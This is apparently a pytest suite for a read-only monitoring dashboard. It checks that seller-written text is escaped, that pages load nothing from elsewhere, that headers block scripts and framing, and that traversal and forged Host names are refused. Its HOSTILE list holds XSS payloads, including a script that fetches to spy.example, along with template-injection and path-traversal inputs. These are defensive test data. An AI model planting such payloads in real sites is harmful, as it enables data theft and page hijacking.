"""The dashboard: it shows what is kept, to this desk only, and nothing a seller writes runs or reaches out."""

from __future__ import annotations

import json
import re
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from dataclasses import replace
from datetime import timedelta
from html.parser import HTMLParser
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import quote

import pytest
from web_seed import NOW, SOURCES, Desk

from monitor.ends import OWN_STOPS
from monitor.web.decisions import read_decisions
from monitor.web.guard import known_host
from monitor.web.marks import marked
from monitor.web.rows import crawl_tone
from storage.model import ChangeKind, CrawlRecord, Flag, FlagKind, Listing, Price, Seller, Status

if TYPE_CHECKING:
    from conftest import Served

HOSTILE = [
    "<script>fetch('https://spy.example/'+document.title)</script>",
    '"><img src=https://spy.example/p.gif onerror=alert(1)>',
    "</td></tr></table></main><h1>forged</h1>",
    "javascript:alert(1)",
    "\u202e\u2066hidden\u200b\x00\x1b[2J",
    "{{ 7*7 }}{% include 'base.html' %}",
    "W" * 5000,
    "\ufffe\u200f",
]
PAGES = (
    "/",
    "/listings",
    "/changes",
    "/crawls",
    "/alerts",
    "/listings?sort=score&flagged=yes",
    "/changes?kind=new",
    "/crawls?belief=held",
)


class Page(HTMLParser):
    """What a page would load, run or lead to."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.loads: list[str] = []
        self.leads: list[str] = []
        self.runs: list[str] = []
        self.labels = 0
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name == "style" or tag in ("script", "iframe", "object", "embed"):
                self.runs.append(f"{tag} {name}")
            if name in ("src", "srcset", "data", "poster", "background") or (tag == "link" and name == "href"):
                self.loads.append(value or "")
            if tag == "a" and name == "href":
                self.leads.append(value or "")


def path_of(listing: Listing) -> str:
    return f"/listing/{quote(listing.listing_id, safe=':')}"


@pytest.fixture(scope="module")
def hostile(dashboard: Served) -> Iterator[Listing]:
    """A listing whose every text is an attack, seen, changed and gone."""
    words = " ".join(HOSTILE)
    title = next(iter(dashboard.desk.states.values())).listing
    attack = replace(
        title,
        source="avito",
        native_id="../../evil?x=<y>#z",
        title=words,
        description=words,
        url="javascript:alert(1)",
        seller=Seller(name=words),
        price=Price(text=words),
        condition=words,
        image="https://spy.example/p.gif",
        place=replace(title.place, text=words),  # type: ignore[type-var]
    )
    at = NOW - timedelta(minutes=5)
    dashboard.desk.crawl("avito", at, [(ChangeKind.NEW, attack)])
    dashboard.desk.crawl(
        "avito", at + timedelta(minutes=1), [(ChangeKind.CHANGED, replace(attack, title=words + "!", seller=None))]
    )
    yield attack


@pytest.mark.parametrize("path", PAGES)
def test_every_page_is_whole_and_loads_nothing_from_elsewhere(dashboard: Served, hostile: Listing, path: str) -> None:
    answer = dashboard.get(path)
    assert answer.status == 200
    page = Page(answer.text)
    assert page.tags.count("h1") == 1
    assert page.runs == []
    assert set(page.loads) == {"/style.css", "/favicon.svg", "/feed.atom", "/feed.rss"}
    assert all(lead.startswith("/") or lead == "#main" for lead in page.leads)
    assert answer.text.rstrip().endswith("</html>")


def test_the_page_of_a_hostile_listing_shows_it_and_obeys_it_in_nothing(dashboard: Served, hostile: Listing) -> None:
    answer = dashboard.get(path_of(hostile))
    assert answer.status == 200
    page = Page(answer.text)
    assert page.runs == []
    assert page.tags.count("h1") == 1
    assert set(page.loads) == {"/style.css", "/favicon.svg", "/feed.atom", "/feed.rss"}
    assert not any("spy.example" in lead or lead.startswith("javascript") for lead in page.leads)
    assert "&lt;script&gt;" in answer.text
    assert "{{ 7*7 }}" in answer.text
    assert "U+202E" in answer.text
    assert not re.search("[\u202a-\u202e\u2066-\u2069\x00\x1b]", answer.text)


def test_the_feed_is_well_formed_whatever_a_seller_writes(dashboard: Served, hostile: Listing) -> None:
    answer = dashboard.get("/feed.atom")
    assert answer.headers["content-type"].startswith("application/atom+xml")
    feed = ET.fromstring(answer.text)
    entries = feed.findall("{http://www.w3.org/2005/Atom}entry")
    assert len(entries) > 10
    names = [entry.findtext("{http://www.w3.org/2005/Atom}id") for entry in entries]
    assert len(set(names)) == len(names)


def test_no_answer_may_run_scripts_be_framed_or_be_cached(dashboard: Served) -> None:
    for path in (*PAGES, "/health", "/feed.atom", "/feed.rss", "/nowhere", "/style.css"):
        headers = dashboard.get(path).headers
        policy = headers["content-security-policy"]
        assert "default-src 'none'" in policy
        assert "script-src" not in policy
        assert "unsafe" not in policy
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["referrer-policy"] == "no-referrer"
        assert "frame-ancestors 'none'" in policy


@pytest.mark.parametrize(
    "host", ["evil.example", "evil.example:80", "127.0.0.1.evil.example", "", "localhost.evil.example", "[::1].evil"]
)
def test_a_foreign_name_for_this_address_is_refused(dashboard: Served, host: str) -> None:
    answer = dashboard.get("/", host=host)
    assert answer.status == 421
    assert "Starlink" not in answer.text


@pytest.mark.parametrize("host", ["localhost", "localhost:8080", "127.0.0.1", "[::1]:8080", "192.168.1.5", "desk.lan"])
def test_this_desks_own_names_are_known(host: str) -> None:
    assert known_host(host, frozenset({"localhost", "desk.lan"}))


@pytest.mark.parametrize("method", ["POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE"])
def test_the_dashboard_only_shows(dashboard: Served, method: str) -> None:
    assert dashboard.get("/listings", method=method).status == 405


@pytest.mark.parametrize(
    "path", ["/listing/none:1", "/listing/", "/crawls/none", "/crawls/..%2f..%2fetc", "/nowhere", "/listing/%00"]
)
def test_what_is_not_there_is_said_so(dashboard: Served, path: str) -> None:
    answer = dashboard.get(path)
    assert answer.status == 404
    assert "Back to the overview" in answer.text


@pytest.mark.parametrize(
    "asked",
    [
        "page=0",
        "page=-1",
        "page=999999999999",
        "page=x",
        "sort=nonsense",
        "status=x",
        "flagged=%00",
        "text=%22*%22",
        "text=NEAR(",
        "page=%C2%B2",
    ],
)
def test_a_senseless_question_is_answered_with_a_page(dashboard: Served, asked: str) -> None:
    for path in ("/listings", "/changes", "/crawls", "/alerts"):
        assert dashboard.get(f"{path}?{asked}").status == 200


def rows(text: str) -> list[str]:
    return re.findall(r'(?s)<td class="name"[^>]*><a href="(/listing/[^"]+)"', text)


def known(desk: Desk, **wanted: object) -> int:
    states = desk.states.values()
    return sum(
        all(getattr(state, name, getattr(state.listing, name, None)) == value for name, value in wanted.items()) for state in states
    )


def test_listings_are_filtered(dashboard: Served) -> None:
    desk = dashboard.desk
    gone = dashboard.get("/listings?status=gone&sort=title")
    assert len(rows(gone.text)) == min(50, known(desk, status=Status.GONE))
    allegro = dashboard.get("/listings?source=allegro&sort=title")
    assert len(rows(allegro.text)) == known(desk, source="allegro")
    assert all("/listing/allegro:" in path for path in rows(allegro.text))
    assert rows(dashboard.get("/listings?text=pulsar").text)
    assert rows(dashboard.get("/listings?text=nothingofthekind").text) == []
    thermal = dashboard.get("/listings?item=thermal-sight")
    assert thermal.text.count("thermal-sight</a>") == len(rows(thermal.text)) > 0


def scores(text: str) -> list[float]:
    return [float(found) for found in re.findall(r'data-label="Score"><span class="\w+"[^>]*>([\d.]+)<', text)]


def test_listings_are_sorted_both_ways(dashboard: Served) -> None:
    down, up = (scores(dashboard.get(f"/listings?sort={sort}").text) for sort in ("score", "-score"))
    assert down == sorted(down, reverse=True)
    assert up == sorted(up)
    assert down[0] > up[0]
    assert 'aria-sort="descending"' in dashboard.get("/listings?sort=score").text


def test_the_pages_of_the_list_hold_every_listing_once(dashboard: Served) -> None:
    seen: list[str] = []
    for page in range(1, 20):
        found = rows(dashboard.get(f"/listings?sort=title&page={page}").text)
        seen += found
        if not found:
            break
    everything = {path_of(state.listing) for state in dashboard.desk.store.listings()}
    assert len(seen) == len(set(seen))
    assert set(seen) == everything


def test_a_listing_shows_its_versions_evidence_price_history_and_flags(dashboard: Served) -> None:
    states = [state for state in dashboard.desk.states.values() if state.version > 2 and state.listing.judgement.flags]
    listing = max(states, key=lambda state: state.version).listing
    text = dashboard.get(path_of(listing)).text
    versions = dashboard.desk.store.versions(listing.listing_id)
    for version in versions:
        assert f"Version {version.number} " in text
        assert version.capture is not None
        assert version.capture.sha256 in text
        assert version.capture.record_id.strip("<>") in text
    assert "<mark" in text
    assert listing.place is not None
    assert listing.place.text in text
    assert 'rel="noopener noreferrer"' in text
    assert f'<dd><span class="breaks small">{listing.image}' in text


def test_the_overview_says_which_sources_ail_and_what_is_held(dashboard: Served) -> None:
    text = dashboard.get("/").text
    assert "2 listings seen where the last 20 crawls saw 9 to 14" in text
    assert "last: blocked" in text
    assert "last: held" in text


def test_the_overview_tells_no_baseline_as_news(dashboard: Served) -> None:
    assert str((NOW - timedelta(days=21)).day) + " November" not in dashboard.get("/").text


def test_a_crawl_page_shows_its_walks_and_why_it_is_held(dashboard: Served) -> None:
    [held] = [crawl for crawl in dashboard.desk.store.crawls(source="dubizzle", limit=3) if crawl.belief == "held"]
    text = dashboard.get(f"/crawls/{held.crawl_id}").text
    assert f"monitor crawls accept {held.crawl_id}" in text
    assert "старлинк" in text


def test_health_is_json_that_names_every_source(dashboard: Served) -> None:
    answer = dashboard.get("/health")
    health = json.loads(answer.text)
    assert health["status"] == "attention"
    assert set(health["sources"]) == set(SOURCES)
    assert health["sources"]["allegro"]["state"] == "ailing"
    assert health["held_crawls"] == 1
    assert health["alerts_waiting"] >= 1


def test_the_outbox_shows_subjects_and_states(dashboard: Served) -> None:
    text = dashboard.get("/alerts").text
    assert "Incident: Allegro blocks us" in text
    assert (
        "First look at" in dashboard.get("/alerts?state=sent&page=3").text + dashboard.get("/alerts?state=sent&page=2").text + text
    )


def flag(words: str, start: int | None = None, kind: FlagKind = FlagKind.RED_FLAG) -> Flag:
    return Flag(rule="rf_x", kind=kind, weight=1.0, words=words, field="title", start=start, label="reason")


def test_marked_words_put_together_are_the_text() -> None:
    text = "Starlink без документов, Starlink"
    marks = marked(text, [flag("Starlink", 25), flag("без документов"), flag("документов", 13), flag("absent")], "title")
    assert "".join(mark.text for mark in marks) == text
    assert [(mark.text, mark.kind) for mark in marks if mark.kind != "plain"] == [("без документов", "red"), ("Starlink", "red")]


def test_hidden_characters_are_written_out() -> None:
    marks = marked("a\u202eb", [], "title")
    assert [(mark.text, mark.why) for mark in marks] == [("a", ""), ("U+202E", "right-to-left override"), ("b", "")]


@pytest.mark.parametrize("name", ["../x", "/etc", "..", ".", "", "a/b", "x\x00"])
def test_a_crawl_id_never_leads_out_of_its_folder(tmp_path: Path, name: str) -> None:
    (tmp_path / "crawl.json").write_text('{"decisions": [{"decided": "leak"}]}')
    inside = tmp_path / "crawls"
    inside.mkdir()
    assert not read_decisions(inside, name).found


def test_the_decisions_of_a_crawl_are_read_from_its_folder(tmp_path: Path) -> None:
    (tmp_path / "c1").mkdir()
    report = {
        "decisions": [{"at": "2026-11-23T10:00:00Z", "url": "https://a.example/\u202e", "decided": "robots", "role": "item"}, 3],
        "walks": [],
    }
    (tmp_path / "c1" / "crawl.json").write_text(json.dumps(report))
    log = read_decisions(tmp_path, "c1")
    assert log.tally == (("robots", 1),)
    assert log.decisions[0]["url"] == "https://a.example/"
    (tmp_path / "c1" / "crawl.json").write_text("{broken")
    assert not read_decisions(tmp_path, "c1").found


@pytest.mark.parametrize("why", sorted(OWN_STOPS))
def test_a_crawl_that_the_program_cut_off_is_not_painted_as_trouble_of_its_source(why: str) -> None:
    cut = CrawlRecord(crawl_id="c", source="avito", watches=(), outcome="failed", started=NOW, ended=NOW, stopped_because=why)
    assert crawl_tone(cut) == "warn"
    assert crawl_tone(replace(cut, stopped_because="no answer")) == "bad"
